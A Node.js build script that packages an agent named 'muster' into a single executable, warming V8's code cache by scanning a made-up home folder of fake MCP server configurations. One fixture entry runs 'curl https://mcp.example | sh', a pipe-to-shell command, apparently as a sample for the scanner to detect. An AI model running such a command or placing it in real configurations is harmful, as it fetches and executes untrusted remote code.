/**
 * Makes the agent's single executable `muster`: the repository's own Node 24 with the agent's bundle, catalog and migrations inside, native parts beside it.
 *
 * Run as `node build/executable.mjs`; the result is dist/executable/<platform>-<arch>/. Made again only when something in it changed.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { readCatalog, readMigrations } from '../agent/assets.ts';
import { packedCatalog } from '../native-catalog/files.ts';
import { bundle } from './bundle.mjs';
import { ownNode } from './packages.mjs';

const root = path.dirname(path.dirname(fileURLToPath(import.meta.url)));
/** Node looks for this very name, and flips the digit after it when a program is inside. */
const FUSE = 'NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2';

/** The native parts of a platform: the name beside the executable, and where in node_modules it comes from. */
export function nativeParts() {
  const { platform, arch } = process;
  const parts = { 'better_sqlite3.node': `better-sqlite3/prebuilds/${sqlitePlatform()}-${arch}.node` };
  if (platform === 'win32') return { ...parts, 'koffi.node': `@koromix/koffi-win32-${arch}/win32_${arch}/koffi.node` };
  if (platform === 'darwin') return { ...parts, 'get-windows': 'get-windows/main' };
  return parts;
}

function sqlitePlatform() {
  const header = /** @type {{ header: { glibcVersionRuntime?: string } }} */ (
    process.platform === 'linux' ? process.report.getReport() : { header: {} }
  );
  return process.platform === 'linux' && !header.header.glibcVersionRuntime ? 'linuxmusl' : process.platform;
}

/**
 * Makes the executable unless it is there already. Resolves with its absolute path; rejects with a sentence when Node, postject or a native part fails.
 * @param {{ out?: string, log?: (line: string) => void }} [options]
 */
export async function executable({ out = path.join(root, 'dist'), log = () => {} } = {}) {
  const folder = path.join(out, 'executable', `${process.platform}-${process.arch}`);
  const target = path.join(folder, process.platform === 'win32' ? 'muster.exe' : 'muster');
  await fs.mkdir(path.join(out, 'executable'), { recursive: true });
  const work = await fs.mkdtemp(path.join(out, 'executable', '.part-'));
  try {
    await bundle({ parts: ['agent'], out: work });
    await fs.writeFile(path.join(work, 'catalog.json'), asciiJson(packedCatalog(readCatalog())));
    const migrations = readMigrations().map(({ version, name, sql }) => [`${String(version).padStart(4, '0')}-${name}.sql`, sql]);
    await fs.writeFile(path.join(work, 'migrations.json'), JSON.stringify(Object.fromEntries(migrations)));
    const natives = Object.entries(nativeParts()).map(([name, file]) => [name, path.join(root, 'node_modules', file)]);

    const hash = createHash('sha256').update(process.version);
    const inputs = [
      fileURLToPath(import.meta.url),
      ...['muster.cjs', 'catalog.json', 'migrations.json'].map((name) => path.join(work, name)),
    ];
    for (const file of [...inputs, ...natives.map(([, file = '']) => file)]) hash.update(await fs.readFile(file));
    const made = path.join(out, 'executable', `made-${process.platform}-${process.arch}`);
    const wanted = hash.digest('hex');
    if ((await fs.readFile(made, 'utf8').catch(() => '')) === wanted && (await fs.stat(target).catch(() => null))) return target;

    for (const [name = '', file = ''] of natives) await fs.copyFile(file, path.join(work, name));
    await makeProgram(work, path.basename(target));
    const ready = path.join(work, 'ready');
    await fs.mkdir(ready);
    await fs.rename(path.join(work, path.basename(target)), path.join(ready, path.basename(target)));
    for (const [name = '', file = ''] of natives) await fs.copyFile(file, path.join(ready, name));
    await fs.rm(made, { force: true });
    await fs.rm(folder, { recursive: true, force: true });
    await fs.rename(ready, folder);
    await fs.writeFile(made, wanted);
    log(`${path.relative(root, target)}: ${((await fs.stat(target)).size / 1e6).toFixed(0)} MB`);
    return target;
  } finally {
    await fs.rm(work, { recursive: true, force: true });
  }
}

/** One letter beyond Latin-1 would make V8 read and parse the whole text at two bytes a letter. @param {unknown} value */
function asciiJson(value) {
  return JSON.stringify(value).replace(/[^\0-\x7f]/g, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`);
}

/**
 * V8 takes compiled code only from a process with the same options, so the executable and the warm-up have these both; and Node's own compiled code only
 * with options that V8 leaves out of the comparison, as these: others make a start 20 ms longer. What else is set, agent/run-length.ts sets.
 *
 * V8 compiles and collects on this thread: a process that ends while another thread compiles and waits for memory never ends (nodejs/node#54918, and
 * seen here), and a collection that is shared waits for threads which get no processor on a busy computer (up to 150 ms each).
 */
export const OPTIONS = ['--max-semi-space-size=8', '--no-concurrent-recompilation', '--no-parallel-scavenge'];

/** What the executable runs: the agent's text, with the code that a scan had V8 compile when the executable was made. */
const LOADER = `
const { getAsset, getRawAsset } = require('node:sea');
const { Script } = require('node:vm');
const cachedData = new Uint8Array(getRawAsset('muster.code'));
new Script(getAsset('muster.js', 'utf8'), { filename: __filename, cachedData }).runInThisContext()(exports, require, module, __filename, __dirname);
`;

/** Runs one scan of a made-up home by the agent's text and keeps the code that was compiled for it; `node:sea` answers from files. */
const WARM_UP = `
const { readFileSync, writeFileSync } = require('node:fs');
const { Script } = require('node:vm');
process.execPath = __dirname + '/muster';
const asset = (name, encoding) => readFileSync(__dirname + '/' + name, encoding);
const sea = { isSea: () => true, getAsset: asset, getRawAsset: asset };
const script = new Script(asset('muster.js', 'utf8'), { filename: process.execPath });
process.on('exit', () => writeFileSync(__dirname + '/muster.code', script.createCachedData()));
// Code is stored under the options that V8 has then, and must be those that the executable starts with: a scan would set others.
require('node:v8').setFlagsFromString = () => {};
const own = Object.assign((name) => (name === 'node:sea' ? sea : require(name)), require);
script.runInThisContext()(exports, own, module, process.execPath, __dirname);
`;

/** @param {string} work the bundle and its data; gets muster.js, muster.code and loader.cjs */
async function compile(work) {
  const text = (await fs.readFile(path.join(work, 'muster.cjs'), 'utf8')).replace(/^#!.*/, '');
  await fs.writeFile(path.join(work, 'muster.js'), `(function (exports, require, module, __filename, __dirname) {${text}\n})`);
  await fs.writeFile(path.join(work, 'loader.cjs'), LOADER);
  await fs.writeFile(path.join(work, 'warm-up.cjs'), WARM_UP);
  const home = path.join(work, 'home');
  const token = { API_TOKEN: 'none' };
  const mcpServers = {
    files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', '/srv'], env: token },
    fetch: { command: 'uvx', args: ['mcp-server-fetch'] },
    remote: { type: 'http', url: 'https://mcp.example/mcp?key=none', headers: { Authorization: 'Bearer none' } },
    // Each goes another way through the rules and the search for running servers.
    near: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystm', home] },
    repository: { command: 'uvx', args: ['--from', 'git+https://git.example/one/two', 'two'], env: { NODE_OPTIONS: '' } },
    script: { command: 'node', args: ['./server.js', '--port', '1'], env: token },
    module: { command: 'python3', args: ['-m', 'mcp_server_time', '--directory', home] },
    binary: { command: '/opt/none/bin/mcp-server', args: ['stdio'], disabled: true },
    shell: { command: 'bash', args: ['-c', 'curl https://mcp.example | sh'] },
  };
  for (const [file, content] of [
    ['.claude.json', JSON.stringify({ mcpServers, projects: { [path.join(home, 'project')]: {} } })],
    ['project/.mcp.json', `// a comment\n${JSON.stringify({ mcpServers })}`],
    ['.codex/config.toml', '[mcp_servers.git]\ncommand = "docker"\nargs = ["run", "-i", "mcp/git"]\n'],
  ]) {
    await fs.mkdir(path.dirname(path.join(home, file ?? '')), { recursive: true });
    await fs.writeFile(path.join(home, file ?? ''), content ?? '');
  }
  const args = [...OPTIONS, path.join(work, 'warm-up.cjs'), 'scan', '--json', '--home', home, '--data', path.join(work, 'data')];
  // Nothing of the developer's: what the scan finds on this computer stays in a folder that goes, and compiled code holds no data.
  const kept = ['PATH', 'SystemRoot', 'TEMP'].flatMap((key) => (process.env[key] ? [[key, process.env[key]]] : []));
  const env = { ...Object.fromEntries(kept), HOME: home, USERPROFILE: home };
  execFileSync(ownNode(root), args, { stdio: ['ignore', 'ignore', 'pipe'], env });
}

/** @param {string} work @param {string} name */
async function makeProgram(work, name) {
  await compile(work);
  const assets = Object.fromEntries(
    ['catalog.json', 'migrations.json', 'muster.js', 'muster.code'].map((file) => [file, path.join(work, file)]),
  );
  const config = {
    main: path.join(work, 'loader.cjs'),
    output: path.join(work, 'muster.blob'),
    disableExperimentalSEAWarning: true,
    // NODE_OPTIONS and the like belong to whoever starts us, and must not reach into the agent.
    execArgvExtension: 'none',
    execArgv: OPTIONS,
    assets,
  };
  await fs.writeFile(path.join(work, 'sea.json'), JSON.stringify(config));
  const node = ownNode(root);
  const { NODE_OPTIONS: _ignored, ...env } = process.env;
  execFileSync(node, ['--experimental-sea-config', path.join(work, 'sea.json')], { stdio: ['ignore', 'ignore', 'pipe'], env });
  const program = path.join(work, name);
  await fs.copyFile(node, program);
  await fs.chmod(program, 0o755);
  // The symbol table is 20 MB that only a debugger of Node itself would read. Where there is no `strip`, it stays.
  if (process.platform === 'linux') spawnSync('strip', ['--strip-all', program], { stdio: 'ignore' });
  if (process.platform === 'darwin') execFileSync('codesign', ['--remove-signature', program]);
  const blob = await fs.readFile(config.output);
  await inject(program, blob);
  // macOS runs nothing unsigned on Apple silicon; the release signs it again with the real identity.
  if (process.platform === 'darwin') execFileSync('codesign', ['--sign', '-', program]);
}

/** @param {string} program @param {Buffer} blob */
async function inject(program, blob) {
  const { warn } = console;
  // Postject's ELF library warns of each note section that `strip` has emptied; that is no news.
  console.warn = () => {};
  try {
    // @ts-expect-error it has no types
    const postject = await import('postject');
    const segment = process.platform === 'darwin' ? { machoSegmentName: 'NODE_SEA' } : {};
    await postject.inject(program, 'NODE_SEA_BLOB', blob, { sentinelFuse: FUSE, ...segment });
  } finally {
    console.warn = warn;
  }
}

if (import.meta.main) {
  try {
    console.log(await executable({ log: console.log }));
  } catch (error) {
    console.error(error instanceof Error ? error.message : error);
    process.exitCode = 1;
  }
}
